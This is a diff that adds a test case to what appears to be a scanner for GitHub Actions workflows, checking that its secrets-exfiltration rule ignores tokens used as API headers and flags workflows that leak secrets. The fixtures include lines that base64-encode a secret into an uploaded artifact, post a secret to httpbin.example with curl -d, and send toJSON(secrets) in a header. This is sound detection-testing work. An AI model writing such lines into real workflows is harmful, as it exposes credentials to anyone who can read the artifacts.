@@ -238,6 +238,39 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
 `)}`;
     expect(only(release, 'gha-secrets-exfiltration')).toEqual([]);
   });
+
+  it('is quiet on an API answer written with a secret as the credential (curl -H, gh), and still reports a secret the pipeline writes', () => {
+    const upload = `      - uses: actions/upload-artifact@v4
+        with:
+          path: |
+            tokens.json
+            report.json
+            out/
+`;
+    // A design-tokens sync: the file holds what the API answers, the token is only a header (continued over two lines).
+    const answers = `on: workflow_dispatch\n${job(`      - run: |
+          curl -sSf -X GET https://api.tokens.figma.com/sets \\
+            -H "X-Figma-Token: \${{ secrets.FIGMA_TOKEN }}" > tokens.json
+          curl -fsSL -H "Authorization: Bearer $TOKEN" https://api.example.com/v1/report | jq . > report.json
+          gh api repos/acme/widgets/releases --header "X-Token: \${{ secrets.X }}" > out/releases.json
+        env:
+          TOKEN: \${{ secrets.REPORT_TOKEN }}
+${upload}`)}`;
+    expect(only(answers, 'gha-secrets-exfiltration')).toEqual([]);
+    // The secret is what the pipeline writes: echoed, encoded, sent as data a server can echo back, or in a list item of its own.
+    const written = `on: push\n${job(`      - run: |
+          echo "\${{ secrets.FIGMA_TOKEN }}" | base64 > tokens.json
+          curl -s -d "k=\${{ secrets.K }}" https://httpbin.example/anything > report.json
+          cd out && printf '%s' "$TOKEN" > out/t.txt
+          curl -fsS https://api.example.com/x > out/x.json; echo "$TOKEN" >> out/x.json
+        env:
+          TOKEN: \${{ secrets.REPORT_TOKEN }}
+${upload}`)}`;
+    expect(only(written, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:7', 'critical:8', 'critical:9', 'critical:10']);
+    // Every secret at once is reported whatever command it is given to.
+    const all = `on: push\n${job(`      - run: |\n          curl -H "X: \${{ toJSON(secrets) }}" https://api.example.com > report.json\n${upload}`)}`;
+    expect(only(all, 'gha-secrets-exfiltration')).toContainEqual(['gha-secrets-exfiltration', 'critical', 7]);
+  });
 });
 
 describe('gha-secrets-inherit', () => {
